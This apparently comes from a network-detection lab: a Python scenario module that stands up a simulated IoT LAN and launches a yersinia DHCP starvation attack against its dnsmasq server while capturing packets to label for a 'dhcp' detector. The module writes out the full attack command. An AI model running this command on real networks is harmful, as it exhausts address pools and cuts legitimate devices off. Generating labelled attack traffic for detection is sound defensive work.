"""yersinia DHCP starvation: DISCOVERs from random MACs for 2 s against
the IoT LAN's DHCP server (dnsmasq)."""
import benign

NAME = 'dhcp-starvation'
KIND = 'dhcp-starvation'
TOOLS = ['yersinia', 'lighttpd', 'dnsmasq', 'mosquitto', 'tcpdump']
FAST = False
EXPECT = []
DETECTORS = ['dhcp']
ATTACKER = '10.20.0.66'


def run(lab, ctx):
    benign.city(lab, ctx, dns_extra=['dhcp-range=10.20.0.100,10.20.0.199,255.255.255.0,1h',
                                     'interface=eth0', 'except-interface=lo',
                                     'dhcp-leasefile=%s/leases' % ctx.dir])
    lab.host('attacker', [ATTACKER + '/24'])
    cmd = ['yersinia', 'dhcp', '-attack', '1', '-interface', 'eth0']
    lab.capture(ctx.pcap)
    benign.start(lab, ctx, rounds=6)
    # yersinia stops at a key press (or EOF) on its stdin: a pipe open 2 s;
    # it writes yersinia.log in its working directory, so that is the scenario's
    lab.run('attacker', ['sh', '-c', 'sleep 2 | ' + ' '.join(cmd)], timeout=10,
            log=ctx.log('yersinia'), cwd=ctx.dir)
    return {'tool': 'yersinia', 'command': ' '.join(cmd), 'attacker': [ATTACKER],
            'victim': [benign.DNS], 'benign': benign.ADDRS, 'spoofed': True,
            'first': 'dhcp.option.dhcp==1 && eth.src!=%s' % lab.hosts['office']['mac']}
